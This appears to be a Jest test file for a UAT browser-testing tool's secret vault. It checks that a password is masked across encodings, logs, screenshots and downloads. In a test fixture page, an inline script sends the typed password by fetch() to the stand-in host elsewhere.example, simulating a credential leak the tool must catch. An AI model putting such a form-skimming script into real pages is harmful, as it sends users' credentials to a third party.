import type { Step } from '@uatcms/plugin-uat-common';
import { chromium } from 'playwright-core';
import { launchOptionsOf } from '../browser/executable';
import { findBrowser } from '../browser/findBrowser';
import { TestRunner } from '../testing/TestRunner';
import { html, TestSite } from '../testing/TestSite';
import { environmentVariables } from '../secrets/SecretSource';
import { SecretVault } from './SecretVault';

// A browser on a busy machine.
jest.setTimeout(120_000);

const secret = 'p&ss "w/rd" <7>';

describe('a secret', () => {
  const environment = {
    name: 'test',
    secrets: ['PASSWORD', 'SHORT', 'MISSING'],
  };
  let vault: SecretVault;

  beforeAll(async () => {
    const source = environmentVariables({
      UAT_SECRET_PASSWORD: secret,
      UAT_SECRET_SHORT: 'p&ss',
      UAT_SECRET_OTHER: 'other',
    });
    vault = new SecretVault(environment, await source.read(environment), name =>
      source.wayOut('test', name),
    );
  });

  it.each([
    ['as it is', secret],
    ['in an address', encodeURIComponent(secret)],
    [
      'in an address that the browser wrote',
      new URL(`http://h/?q=${secret}`).search.slice(3),
    ],
    ['in a form', new URLSearchParams({ q: secret }).toString().slice(2)],
    ['in JSON', JSON.stringify({ q: secret }).slice(6, -2)],
    ['in HTML', 'p&amp;ss &quot;w/rd&quot; &lt;7&gt;'],
    ['in HTML that escapes only what it must', 'p&amp;ss "w/rd" &lt;7>'],
    ['in HTML by numbers', 'p&#38;ss&#x20;&#034;w&#x2F;rd&#34; &#60;7&#62;'],
    ['in a script', 'p\\u0026ss \\"w\\/rd\\x22 \\u003c7\\u003E'],
    ['with its white space folded', 'p&ss\n  "w/rd"\t<7>'],
    ['in lower-case escapes', encodeURIComponent(secret).toLowerCase()],
    ['in a header', Buffer.from(secret).toString('base64')],
  ])('is masked %s', (_, writing) => {
    expect(vault.mask(`before ${writing} after`)).toBe('before ••• after');
  });

  it('is masked inside of Base64, wherever it begins', () => {
    for (const user of ['a', 'an', 'ann']) {
      const header = Buffer.from(`${user}:${secret}`).toString('base64');
      expect(vault.mask(header).length).toBeLessThan(header.length - 12);
    }
  });

  it('that begins with another is masked to its end', () => {
    expect(vault.mask(`${secret} and p&ss`)).toBe('••• and •••');
  });

  it('is found in the bytes of a file', () => {
    expect(vault.isInBytes(Buffer.from(`a;${secret};b`))).toBe(true);
    expect(vault.isInBytes(Buffer.from(secret, 'utf16le'))).toBe(true);
    expect(vault.isInBytes(Buffer.from(`x${secret}`, 'utf16le'))).toBe(true);
    expect(vault.isInBytes(Buffer.from('a;b'))).toBe(false);
    const search = vault.searcher();
    for (const byte of Buffer.from(`a;${secret};b`))
      search.add(Buffer.from([byte]));
    expect(search.found).toBe(true);
  });

  it('that is missing says where to set it', () => {
    expect(() => vault.valueOf('MISSING')).toThrow(
      'Set the environment variable UAT_SECRET_MISSING of the executor.',
    );
    expect(() => vault.valueOf('OTHER')).toThrow(
      'Environment “test” has no secret “OTHER”.',
    );
  });
});

describe('a run that uses a secret', () => {
  let runner: TestRunner;
  let site: TestSite;

  beforeAll(async () => {
    process.env.UAT_SECRET_PASSWORD = secret;
    runner = await TestRunner.start();
    site = await TestSite.start({
      '/': `<form action="/echo"><label>Password <input name="q"></label><button>Go</button></form>
        <script>document.querySelector('form').onsubmit = () => {
          console.error('typed ' + document.querySelector('input').value);
          fetch('http://elsewhere.example/?q=' + encodeURIComponent(document.querySelector('input').value)).catch(() => {});
        }</script>`,
      '/echo': (request, response) => {
        const typed =
          new URL(request.url!, 'http://site').searchParams.get('q') ?? '';
        const text = typed
          .replaceAll('&', '&amp;')
          .replaceAll('<', '&lt;')
          .replaceAll('"', '&quot;');
        html(
          response,
          `<h1>${text}</h1><input value="${text}"><button onclick="alert(document.querySelector('h1').textContent)">Tell</button><a href="/file">File</a>`,
        );
      },
      '/file': (_, response) =>
        response
          .writeHead(200, {
            'content-disposition': 'attachment; filename="a.txt"',
          })
          .end(`key=${secret}`),
    });
  });

  afterAll(async () => {
    delete process.env.UAT_SECRET_PASSWORD;
    await runner.stop();
    await site.stop();
  });

  const useSecret = (...more: unknown[]) => ({
    baseUrl: site.url,
    secrets: ['PASSWORD'],
    options: { evidence: 'all' as const, stepTimeout: 20_000 },
    steps: [
      { keyword: 'openUrl', url: '/' },
      {
        keyword: 'fill',
        target: { label: 'Password' },
        value: '{{secret.PASSWORD}}',
      },
      ...more,
    ] as Step[],
  });
  const go = { keyword: 'click', target: { role: 'button' } };

  it('lets it out in no text and no file', async () => {
    const { events, kept, steps } = await runner.perform(
      useSecret(
        go,
        {
          keyword: 'save',
          from: 'text',
          target: { role: 'heading' },
          as: 'seen',
        },
        {
          keyword: 'expectThat',
          value: '{{seen}}',
          operator: 'equals',
          expected: '{{secret.PASSWORD}}',
        },
        { keyword: 'onDownload', as: 'file' },
        { keyword: 'click', target: { role: 'link' } },
        { keyword: 'click', target: { role: 'button' } },
        {
          keyword: 'expectText',
          target: { role: 'heading' },
          text: 'Nothing',
          optional: true,
          timeout: 500,
        },
        {
          keyword: 'click',
          target: { text: '{{seen}}', nth: 9 },
          timeout: 500,
        },
      ),
    );
    const said = JSON.stringify(events);
    const writings = [
      secret,
      encodeURIComponent(secret),
      JSON.stringify(secret).slice(1, -1),
      'p%26ss',
      'p&ss',
      'w/rd',
    ];
    expect(writings.filter(writing => said.includes(writing))).toEqual([]);
    expect([...kept.values()].filter(bytes => bytes.includes('p&ss'))).toEqual(
      [],
    );
    // The places where it would have been.
    expect(steps[1].title).toBe('Fill label “Password” with “•••”');
    expect(steps[2].pageUrl).toContain('/echo?q=•••');
    expect(JSON.stringify(steps[2].notices)).toContain('typed •••');
    expect(steps[4]).toMatchObject({
      status: 'passed',
      title: 'Expect that “•••” equals “•••”',
    });
    expect(JSON.stringify(steps)).toContain('A dialog was dismissed: “•••”');
    expect(JSON.stringify(steps)).toContain(
      'The download “a.txt” was not kept: it holds a secret.',
    );
    expect(steps.find(step => step.keyword === 'expectText')).toMatchObject({
      actual: '“•••”',
    });
  });

  it('takes no picture of a step that touches it, and covers it in later ones', async () => {
    const { steps, kept } = await runner.perform(
      useSecret(go, { keyword: 'screenshot', name: 'After' }),
    );
    expect(steps[1]).toMatchObject({
      message: 'No picture: the step works with a secret.',
    });
    expect(steps[1].artifacts).toBeUndefined();
    const [picture] = steps[3].artifacts!;
    // Where the heading and the field are, there is the colour of the cover.
    const colours = await coloursOf(kept.get(picture.sha256)!, [
      [30, 40],
      [30, 95],
    ]);
    expect(colours).toEqual([
      [95, 99, 104],
      [95, 99, 104],
    ]);
  });
});

/** Reads pixels with the browser that drew them. JPEG changes colours a little, so they are rounded to the cover's. */
async function coloursOf(
  jpeg: Buffer,
  points: Array<[number, number]>,
): Promise<number[][]> {
  const browser = await chromium.launch(
    launchOptionsOf(await findBrowser(), []),
  );
  try {
    const page = await browser.newPage();
    const found = await page.evaluate(
      async ([data, places]) => {
        const bitmap = await createImageBitmap(
          await (await fetch(data as string)).blob(),
        );
        const canvas = new OffscreenCanvas(bitmap.width, bitmap.height);
        const context = canvas.getContext('2d')!;
        context.drawImage(bitmap, 0, 0);
        return (places as number[][]).map(([x, y]) =>
          [...context.getImageData(x, y, 1, 1).data].slice(0, 3),
        );
      },
      [`data:image/jpeg;base64,${jpeg.toString('base64')}`, points] as const,
    );
    const cover = [95, 99, 104];
    return found.map(colour =>
      colour.every((part, index) => Math.abs(part - cover[index]) < 8)
        ? cover
        : colour,
    );
  } finally {
    await browser.close();
  }
}
